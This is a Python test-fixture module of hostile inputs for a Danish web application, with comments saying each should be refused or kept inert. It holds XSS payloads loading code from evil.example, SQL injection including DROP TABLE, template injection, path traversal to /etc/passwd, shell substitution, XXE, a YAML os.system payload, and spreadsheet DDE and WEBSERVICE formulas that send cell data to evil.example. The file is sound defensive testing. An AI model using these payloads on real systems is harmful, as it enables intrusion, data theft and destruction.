"""Hostile input as data, for API, page and export tests to parametrise over.

    @pytest.mark.parametrize("text", REFUSED_TEXTS.values(), ids=REFUSED_TEXTS)

A promise of each table stands above it. JSON tables hold the raw characters of a JSON value, because most
of them cannot be made with `json.dumps`.
"""

import json

# Refused by page and API alike with 422 and a pointer; nothing is stored. Each is long enough otherwise.
REFUSED_TEXTS = {
    f"{name} {where}": text
    for name, char in {
        "NUL": "\x00",
        "start of heading": "\x01",
        "bell": "\x07",
        "backspace": "\x08",
        "vertical tab": "\x0b",
        "form feed": "\x0c",
        "shift out": "\x0e",
        "substitute": "\x1a",
        "escape": "\x1b",
        "unit separator": "\x1f",
        "delete": "\x7f",
        "C1 control": "\x80",
        "C1 introducer": "\x9b",
        "high surrogate": "\ud800",
        "low surrogate": "\udfff",
        "U+FFFE": "\ufffe",
        "U+FFFF": "\uffff",
        "U+FDD0": "\ufdd0",
        "U+1FFFE": "\U0001fffe",
        "U+10FFFF": "\U0010ffff",
    }.items()
    for where, text in {
        "inside": f"Vi skriver{char}det samme to gange.",
        "first": f"{char}Vi skriver det samme to gange.",
        "last": f"Vi skriver det samme to gange.{char}",
    }.items()
}

# Nothing to see, so nothing written: a required field answers 422 "required", an optional one stays empty.
EMPTY_TEXTS = {
    "empty": "",
    "spaces": " " * 20,
    "no-break spaces": "\u00a0" * 20,
    "line ends": "\r\n\u2028\u2029\x85" * 4,
    "tabs": "\t" * 20,
    "zero-width spaces": "\u200b" * 20,
    "zero-width joiners": "\u200d" * 20,
    "word joiners": "\u2060" * 20,
    "soft hyphens": "\u00ad" * 20,
    "byte order marks": "\ufeff" * 20,
    "direction overrides": "\u202e" * 20,
    "direction isolates": "\u2066\u2069" * 10,
    "Hangul fillers": "\u3164" * 20,
    "Braille blanks": "\u2800" * 20,
    "combining accents alone": "\u0301" * 20,
    "variation selectors": "\ufe0f" * 20,
    "tag characters": "\U000e0041" * 20,
}

# Accepted, stored as they are but for trimming, and shown as text: never as markup, code or a path (P-15, P-16).
SCRIPTS = {
    "script": "<script>alert(1)</script> i et felt",
    "script, split case": "<ScRiPt>alert(1)</sCrIpT> i et felt",
    "script, unclosed": "<script src=//evil.example/x.js>",
    "breaking out of an attribute": "\"><img src=x onerror=alert(1)>",
    "breaking out of a single-quoted attribute": "' autofocus onfocus=alert(1) x='",
    "breaking out of a textarea": "</textarea><script>alert(1)</script>",
    "breaking out of a title": "</title><script>alert(1)</script>",
    "breaking out of a script": "</script><script>alert(1)</script>",
    "breaking out of a comment": "--><script>alert(1)</script><!--",
    "breaking out of CDATA": "]]><script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg onload=alert(1)>",
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "iframe": "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "math": "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "details": "<details open ontoggle=alert(1)>",
    "style": "<style>@import '//evil.example/x.css';</style>",
    "base": "<base href=//evil.example/>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "form": "<form action=//evil.example/><input type=submit>",
    "JavaScript address": "javascript:alert(document.cookie)",
    "data address": "data:text/html,<script>alert(1)</script>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; og &#x3c;b&#x3e;",
    "numeric entities": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "backticks": "`onmouseover=alert(1)` ${alert(1)}",
    "JSON in a script": "{\"a\": \"</script><script>alert(1)</script>\"}",
    "Django template": "{{ settings.SECRET_KEY }}{% debug %}",
    "Django comment": "{# #}{% load static %}{% include '/etc/passwd' %}",
    "Jinja": "{{ 7*7 }}{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "format string": "%s %(password)s {0.__class__} {user.password}",
    "docxtpl": "{%p if true %}{{ r }}{%p endif %}",
    "SQL, or": "' OR '1'='1' --",
    "SQL, drop": "'; DROP TABLE examples_example; --",
    "SQL, union": "' UNION SELECT hmac FROM examples_trackingcode --",
    "SQL, sleep": "1); SELECT pg_sleep(10); --",
    "LIKE pattern": "%_%\\%",
    "regular expression": "(a+)+$ [[:alpha:]]*",
    "path": "../../../../etc/passwd",
    "Windows path": "..\\..\\windows\\system32\\config\\sam",
    "file address": "file:///etc/passwd og \\\\evil.example\\share",
    "shell": "$(id) `id` ; id | id && id",
    "log line": "INFO 2026-11-25 Alt er vel [admin@example.org]",
    "XML entity": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "Excel escape": "_x0041_ og _x000D_ i en celle",
    "Markdown link": "[klik](javascript:alert(1)) ![x](//evil.example/p.png)",
    "mail header, folded": "Emne: hej%0d%0aBcc: alle@evil.example",
}  # fmt: skip

# Accepted and exported as text: no program that opens the file may compute or fetch anything (P-13).
FORMULAS = {
    "equals": "=1+1 er to, siger regnearket",
    "plus": "+1+1 er to, siger regnearket",
    "minus": "-1+1 er nul, siger regnearket",
    "at": "@SUM(1;1) er to, siger regnearket",
    "full-width equals": "＝1+1 er to, siger regnearket",
    "full-width plus": "＋1+1 er to, siger regnearket",
    "full-width minus": "－1+1 er nul, siger regnearket",
    "full-width at": "＠SUM(1;1) er to",
    "minus sign": "−1+1 er nul, siger regnearket",
    "small equals": "﹦1+1 er to, siger regnearket",
    "apostrophe": "'=1+1 er to, siger regnearket",
    "quote": "\"=1+1\";\"=2+2\"",
    "semicolon": ";=1+1;=2+2",
    "comma": "x,=1+1,=2+2 i tre felter",
    "second line": "Første linje\n=1+1",
    "tab": "x\t=1+1\t=2+2 i tre felter",
    "hyperlink": "=HYPERLINK(\"http://evil.example/\"&A1;\"Klik her\")",
    "web service": "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "image": "=IMAGE(\"http://evil.example/p.png\")",
    "DDE": "=cmd|' /C calc'!A0",
    "DDE, at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "DDE, minus": "-2+3+cmd|' /C calc'!A0",
    "DDE, function": "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "other file": "='file:///etc/passwd'#$passwd.A1",
    "array": "{=1+1} og {=SUM(A1:A9)}",
    "error value": "#N/A i hver celle",
    "reference error": "#REF! i hver celle",
    "address": "http://evil.example/?q=1 er ikke et link",
    "internal link": "internal:Sheet1!A1 er ikke et link",
    "file link": "external:c:\\temp\\x.xlsx er ikke et link",
    "number": "00012345",
    "exponent": "1E5000 gange om dagen",
    "date": "1-2-3 gange",
    "truth": "TRUE er ikke et ja",
    "separator line": "sep=; i første linje",
}  # fmt: skip

# Accepted and kept as typed: Danish, other scripts, emoji, and what only looks dangerous.
HARMLESS_TEXTS = {
    "Danish": "Blåbærgrød på Ærø: «æøå ÆØÅ», 12,5 % – “ja” …",
    "emoji": "Sygeplejersker 👩‍⚕️ og børn 🧑🏽‍🍼 i 🇩🇰",
    "combining": "Å som A\u030a og é som e\u0301",
    "right to left": "مرحبا بكم في لايره",
    "Devanagari": "नमस्ते लेजरे कम्युने",
    "Chinese": "我们把同样的东西写了两遍，两遍",
    "mathematics": "𝔎𝔢𝔯𝔫𝔢𝔱𝔦𝔡 ∑∞ ≤ ½",
    "replacement character": "Bl\ufffdb\ufffdrgr\ufffdd fra en gammel mail",
    "lines and tabs": "Første linje\n\tindrykket\n\nnæste afsnit",
    "many accents": "Z" + "\u0301" * 200 + "algo",
    "one long word": "a" * 119,
}

# Personal numbers are refused; the whole table stands in tests/backend/test_personal_numbers.py.
PERSONAL_NUMBERS = {
    "hyphen": "Borgeren 010190-1234 venter stadig",
    "plain": "Borgeren 0101901234 venter stadig",
    "spaced": "Borgeren 01 01 90 - 1234 venter",
    "zero-width": "Borgeren 01\u200b01\u200b90\u200b1234 venter",
    "full-width": "Borgeren ０１０１９０－１２３４ venter",
    "Arabic digits": "Borgeren ٠١٠١٩٠١٢٣٤ venter",
    "replacement number": "Borgeren 610190-1234 venter",
}

# Raw JSON values: JSON_NUMBERS in the place of minutes, times or people, JSON_TEXTS in the place of a text, answer
# 422 (or 400 where the whole is no JSON) and never 5xx (P-17).
JSON_NUMBERS = {
    "NaN": "NaN",
    "Infinity": "Infinity",
    "minus Infinity": "-Infinity",
    "beyond double": "1e999",
    "2^31": "2147483648",
    "2^63": "9223372036854775808",
    "minus 2^63 - 1": "-9223372036854775809",
    "5,000 digits": "9" * 5000,
    "exponent of a million": "1e1000000",
    "negative": "-1",
    "half a time": "0.0000001",
    "true": "true",
    "text": '"tre"',
    "number as text, exponent": '"1e400"',
    "list": "[1]",
    "object": '{"$gt": 0}',
    "date": '"2026-11-25"',
}
JSON_TEXTS = {
    "number": "12345678901",
    "true": "true",
    "list": '["Vi skriver det samme to gange"]',
    "object": '{"$ne": null}',
    "NaN": "NaN",
    "deep list": "[" * 500 + "]" * 500,
    "high surrogate escaped": '"Vi skriver \\ud800 det samme"',
    "low surrogate escaped": '"Vi skriver \\udc00 det samme"',
    "NUL escaped": '"Vi skriver \\u0000 det samme"',
}

# Whole bodies: (content type, bytes). Every one is a 4xx in the API's error format, at once and in little memory.
_GOOD = json.dumps({"campaign": "mere-tid", "problem": "Vi skriver det samme to gange."}).encode()
BODIES = {
    "nothing": ("application/json", b""),
    "no JSON": ("application/json", b"problem=Vi+skriver"),
    "cut short": ("application/json", _GOOD[:-5]),
    "followed by more": ("application/json", _GOOD + b"{}"),
    "null": ("application/json", b"null"),
    "list": ("application/json", b"[" + _GOOD + b"]"),
    "text": ("application/json", b'"problem"'),
    "number": ("application/json", b"1"),
    "number of 10,000 digits": ("application/json", b"1" * 10_000),
    "100,000 lists deep": ("application/json", b"[" * 100_000 + b"]" * 100_000),
    "100,000 objects deep": ("application/json", b'{"a":' * 100_000 + b"1" + b"}" * 100_000),
    "depth in a field": ("application/json", _GOOD[:-1] + b', "title": ' + b"[" * 50_000 + b"]" * 50_000 + b"}"),
    "100,000 fields": (
        "application/json",
        b"{" + b",".join(b'"f%d": 1' % number for number in range(100_000)) + b"}",
    ),
    "2 MB text": ("application/json", _GOOD.replace(b"to gange", b"to gange" * 250_000)),
    "Latin-1": ("application/json", '{"campaign": "mere-tid", "problem": "Blåbærgrød på Ærø"}'.encode("latin-1")),
    "overlong UTF-8": ("application/json", _GOOD.replace(b"samme", b"\xc0\xaf\xe0\x80\xaf")),
    "surrogates in UTF-8": ("application/json", _GOOD.replace(b"samme", b"\xed\xa0\x80")),
    "UTF-16": ("application/json", b"\xff\xfe" + _GOOD.decode().encode("utf-16-le")),
    "NUL byte": ("application/json", _GOOD.replace(b"samme", b"sam\x00me")),
    "raw line end in a text": ("application/json", _GOOD.replace(b"samme", b"sam\nme")),
    "gzip": ("application/json", b"\x1f\x8b\x08\x00" + b"\x00" * 30),
    "XML": ("application/xml", b"<?xml version='1.0'?><!DOCTYPE x SYSTEM 'file:///etc/passwd'><x/>"),
    "YAML": ("application/x-yaml", b"problem: !!python/object/apply:os.system ['id']"),
    "plain text": ("text/plain", _GOOD),
    "form": ("application/x-www-form-urlencoded", b"campaign=mere-tid&problem=Vi+skriver+det+samme"),
    "no type": ("", _GOOD),
    "HTML": ("text/html", _GOOD),
    "multipart, no boundary": ("multipart/form-data", _GOOD),
    "multipart, cut": ("multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: form-data; name=example"),
}  # fmt: skip

# Fields that a sender may not set: refused as unknown (422), whatever the value (P-23).
FOREIGN_FIELDS = {
    "id": "00000000-0000-0000-0000-000000000000",
    "pk": 1,
    "reference": "E-AAAA-AAAA",
    "status": "accepted",
    "submitted_date": "2001-01-01",
    "source": "camp",
    "source_key": "S0001",
    "batch": 1,
    "is_quarantined": False,
    "flag": "",
    "core_task": "stoette",
    "provenance": {"votes": 99},
    "stems": " alt ",
    "set_aside_reason": "spam",
    "tracking_code": "et to tre fire fem seks syv otte",
    "organisation_id": 1,
    "is_staff": True,
    "__class__": "x",
    "constructor": {"prototype": {}},
}

# Words in an address. A list answers 200 or 422, a detail 404; never 5xx and never a stack trace.
QUERY_VALUES = {
    "NUL": "%00",
    "surrogate": "%ed%a0%80",
    "bad UTF-8": "%ff%fe",
    "line end": "a%0d%0aSet-Cookie:%20x=1",
    "long": "a" * 5000,
    "SQL": "%27%20OR%201%3D1%20--",
    "pattern": "%25_%25",
    "path": "..%2f..%2fetc%2fpasswd",
    "script": "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "number": "9" * 400,
    "negative": "-1",
    "not a number": "NaN",
    "emoji": "%F0%9F%91%A9",
    "direction override": "%E2%80%AEabc",
}
